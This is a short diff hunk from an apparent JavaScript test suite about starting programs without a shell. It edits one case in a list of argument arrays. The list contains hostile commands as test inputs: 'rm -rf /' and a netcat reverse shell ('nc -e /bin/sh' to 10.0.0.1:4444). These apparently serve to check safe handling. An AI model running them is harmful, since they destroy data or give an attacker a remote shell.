@@ -19,7 +19,7 @@ describe("a program started without a shell", () => {
     [["bash", "-c", "ls"]],
     [["sh", "-c", null]],
     [[null, "x"]],
-    [["python3", "-c", "print(1)"]],
+    [["python3", "-c", null]],
     [["rm", "-rf", "/"]],
     [["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]],
     [["find", ".", "-exec", "sh", "-c", null, ";"]],
